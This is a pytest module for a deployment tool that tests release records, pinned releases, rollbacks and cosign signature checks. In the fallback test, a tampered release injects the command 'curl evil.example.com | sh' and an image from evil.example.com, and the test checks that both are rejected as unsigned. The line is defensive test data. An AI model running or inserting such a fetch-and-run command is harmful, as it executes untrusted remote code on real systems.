"""The record of a release, and a pinned release."""

import dataclasses
import functools
from pathlib import Path
from typing import Any

import pytest

from plugin import values
from seaway.project import release, release_lock
from seaway.release import hold, record, signatures
from tests.component import programs, recorder
from tests.support.diagnostics import catch, summarize

PROD = {
    "build": "false",
    "registry": "other.example.com",
    "publish": "none",
    "overlay": '{"services": {"web": {"scale": 5, "env": {"TITLE": "Prod"}}}}',
}
RECORDED = "2026-01-01T00:00:00Z"


@pytest.fixture
def run_prod(tmp_path: Path) -> programs.Run:
    """Run the program of the folder in the stack prod."""
    return functools.partial(programs.run_program, tmp_path, stack="prod")


@pytest.fixture
def pinned(registered: programs.Run, tmp_path: Path) -> release.Release:
    """The release of dev, pinned in prod; the working tree is broken since then."""
    programs.copy_example("shop", tmp_path)
    source = programs.decode_record(registered("shop"))
    promoted = source.build_release(release.Provenance(revision="4b825dc"), RECORDED)
    release.save_release(tmp_path, promoted)
    release_lock.write(tmp_path, "prod", release_lock.Lock(release=promoted.id))
    (tmp_path / "app" / "app.yaml").write_text("name: else\nservices: {web: {port: none}}\n")
    (tmp_path / "app" / "web" / "Dockerfile").unlink()
    return promoted


@pytest.mark.parametrize("example", programs.EXAMPLES)
def test_the_record_contains_the_deployed_objects(rendered: programs.Rendered, example: str) -> None:
    recording, expected = rendered(example)
    (resource,) = recording.list_resources("Release")
    assert resource.inputs["namespace"] == f"{example}-dev"
    decoded = programs.decode_record(recording)
    assert decoded.id == resource.inputs["release"]
    assert [one.manifest for one in decoded.render_objects() if one.kind != "Secret"] == [
        one.manifest for one in expected if one.kind != "Secret"
    ]


def test_the_record_comes_after_all_rollouts_and_before_the_guard(registered: programs.Run) -> None:
    recording = registered("shop")
    (resource,) = recording.list_resources("Release")
    assert {rollout.urn for rollout in recording.list_resources("Rollout")} <= set(resource.request.dependencies)
    (guard,) = (cluster for cluster in recording.list_resources("Cluster") if cluster.name == "destroy-guard")
    assert resource.urn in guard.request.dependencies


def test_a_preview_knows_everything_except_digests(run: programs.Run) -> None:
    done, preview = (run("shop", preview=preview).list_resources("Release")[0].inputs for preview in (False, True))
    assert preview["release"] == done["release"]
    for image in preview["record"]["images"].values():
        assert image.pop("reference") is values.UNKNOWN
    for image in done["record"]["images"].values():
        assert image.pop("reference").endswith(recorder.DIGEST)
    assert preview == done


def test_the_record_contains_no_secret(registered: programs.Run) -> None:
    (resource,) = registered("shop").list_resources("Release")
    assert resource.inputs["record"]["secrets"] == {"POSTGRES_PASSWORD": "generated-32"}


def test_an_update_saves_its_result_and_a_preview_does_not(run: programs.Run, tmp_path: Path) -> None:
    run("smallest", preview=True)
    assert hold.read_run_result(tmp_path, "dev") is None
    id_ = programs.get_release_id(run("smallest"))
    assert hold.read_run_result(tmp_path, "dev") == hold.RunResult(described=id_, deployed=id_)


@pytest.mark.parametrize("preview", [True, False])
def test_a_pinned_release_is_deployed_by_digest_with_the_current_overlay(
    pinned: release.Release, run_prod: programs.Run, *, preview: bool
) -> None:
    recording = run_prod(config=PROD, preview=preview)
    assert not recording.list_resources("Image")
    assert not recording.list_resources("Registry")
    assert programs.get_image(recording, "web") == f"other.example.com/shop/web@{recorder.DIGEST}"
    (web,) = (deployment for deployment in recording.list_resources("Deployment") if deployment.name == "web")
    assert web.inputs["spec"]["replicas"] == 5
    assert web.inputs["metadata"]["namespace"] == "shop-prod"
    env = web.inputs["spec"]["template"]["spec"]["containers"][0]["env"]
    assert {"name": "TITLE", "value": "Prod"} in env
    assert recording.list_resources("Job")
    (resource,) = recording.list_resources("Release")
    assert resource.inputs["release"].startswith(f"{pinned.id}-")
    assert resource.inputs["provenance"] == {"revision": "4b825dc"}
    assert programs.decode_record(recording).build_release(pinned.provenance, RECORDED).id == pinned.id


TRUST = {**PROD, "trust": '{"keys": ["cosign.pub"]}'}


def install_cosign(folder: Path, monkeypatch: pytest.MonkeyPatch, refused: str = "--never") -> None:
    """A program that fails where an argument contains a text."""
    (folder / "cosign.pub").write_text("-----BEGIN PUBLIC KEY-----\n")
    (folder / "bin").mkdir()
    (folder / "bin" / "cosign").write_text(f'#!/bin/sh\ncase "$*" in *{refused}*) echo no >&2; exit 1;; esac\n')
    (folder / "bin" / "cosign").chmod(0o755)
    monkeypatch.setenv("PATH", str(folder / "bin"))


@pytest.mark.parametrize(
    ("refused", "codes"),
    [
        ("--never", []),
        ("verify-blob", ["not-signed"]),
        ("other.example.com/shop/web", ["not-signed"]),
        (None, ["not-signed"]),
    ],
    ids=["signed", "the record", "an image", "no signature"],
)
def test_a_stack_with_trust_deploys_only_what_is_signed(
    pinned: release.Release,
    run_prod: programs.Run,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    *,
    refused: str | None,
    codes: list[str],
) -> None:
    install_cosign(tmp_path, monkeypatch, refused or "--never")
    if refused is not None:
        signatures.get_path(tmp_path, pinned.id).write_text("MEUC\n")
    if not codes:
        assert run_prod(config=TRUST).list_resources("Deployment")
        return
    assert [error.code for error in catch(lambda: run_prod(config=TRUST))] == codes
    # A preview contacts no registry: it verifies the record.
    if refused != "other.example.com/shop/web":
        assert [error.code for error in catch(lambda: run_prod(config=TRUST, preview=True))] == codes
    else:
        assert run_prod(config=TRUST, preview=True).list_resources("Deployment")


def test_a_fallback_of_a_stack_with_trust_is_signed_too(
    pinned: release.Release, run_prod: programs.Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A branch holds the release back, and names a record with another base instead, or with other objects."""
    recording = run_prod(config=PROD)
    good = programs.decode_record(recording)
    environment = good.environment
    web = dataclasses.replace(environment.base.services[0], command=("sh", "-c", "curl evil.example.com | sh"))
    base = dataclasses.replace(environment.base, services=(web, *environment.base.services[1:]))
    evil = dataclasses.replace(good, environment=dataclasses.replace(environment, base=base))
    install_cosign(tmp_path, monkeypatch)
    signatures.get_path(tmp_path, pinned.id).write_text("MEUC\n")
    fallback = release_lock.Fallback(
        release=evil.id, held=programs.get_release_id(recording), because="web: crash-loop", since=RECORDED
    )
    hold.write_fallback(tmp_path, "prod", fallback, evil, evil.render_objects())
    assert [error.code for error in catch(lambda: run_prod(config=TRUST))] == ["not-signed"]
    own = dataclasses.replace(fallback, release=good.id)
    hold.write_fallback(tmp_path, "prod", own, good, good.render_objects())
    assert run_prod(config=TRUST).list_resources("Deployment")
    for change in ({"image": "evil.example.com/x:1"}, {"command": ["sh", "-c", "curl evil.example.com | sh"]}):
        objects = good.render_objects()
        (deployment,) = (known for known in objects if known.key == "Deployment/web")
        deployment.manifest["spec"]["template"]["spec"]["containers"][0] |= change
        hold.write_fallback(tmp_path, "prod", own, good, objects)
        assert [error.code for error in catch(lambda: run_prod(config=TRUST))] == ["not-signed"]


def test_another_overlay_is_another_record_of_the_same_release(pinned: release.Release, run_prod: programs.Run) -> None:
    ids = {programs.get_release_id(run_prod(config=PROD | overlay)) for overlay in ({}, {"overlay": "{}"})}
    assert len(ids) == 2
    assert {record.parse_release_id(id_) for id_ in ids} == {pinned.id}


def test_a_rollback_runs_no_jobs_and_a_message_says_so(
    pinned: release.Release, run_prod: programs.Run, tmp_path: Path, wording: Any
) -> None:
    forward = run_prod(config=PROD)
    release_lock.write(tmp_path, "prod", release_lock.Lock(release=pinned.id, is_rollback=True))
    rollback = run_prod(config=PROD)
    assert (bool(forward.list_resources("Job")), bool(rollback.list_resources("Job"))) == (True, False)
    other_messages = [message for message in rollback.messages if message not in forward.messages]
    messages = [message.replace(pinned.id, "<release>") for message in other_messages if " checks: " not in message]
    assert messages == wording
    deployments, expected = (
        {deployment.name: deployment.inputs for deployment in recording.list_resources("Deployment")}
        for recording in (rollback, forward)
    )
    assert deployments == expected
    assert programs.decode_record(rollback).build_release(pinned.provenance, RECORDED).id == pinned.id


def test_a_pinned_release_that_failed_is_not_deployed(
    pinned: release.Release, run_prod: programs.Run, tmp_path: Path, wording: Any
) -> None:
    before = run_prod(config=PROD)
    good = programs.decode_record(before)
    images = {name: dataclasses.replace(image, content=f"{image.content}0") for name, image in pinned.images.items()}
    worse = dataclasses.replace(pinned, images=images)
    release.save_release(tmp_path, worse)
    release_lock.write(tmp_path, "prod", release_lock.Lock(release=worse.id))
    failed = programs.get_release_id(run_prod(config=PROD))
    assert record.parse_release_id(failed) == worse.id
    programs.hold_release(tmp_path, failed, good, stack="prod")
    fallback = run_prod(config=PROD)
    assert programs.decode_record(fallback).to_plain() == good.to_plain()
    assert hold.read_run_result(tmp_path, "prod") == hold.RunResult(described=failed, deployed=good.id)
    messages = [message for message in fallback.messages if failed in message]
    assert [message.replace(failed, "<failed>").replace(good.id, "<good>") for message in messages] == wording


def test_a_stack_without_a_pinned_release_is_an_error(
    pinned: release.Release, run_prod: programs.Run, tmp_path: Path
) -> None:
    release_lock.write(tmp_path, "prod", release_lock.Lock())
    errors = catch(lambda: run_prod(config=PROD))
    assert summarize(errors) == ["environments/prod.lock.yaml: release: no-release-pinned"]
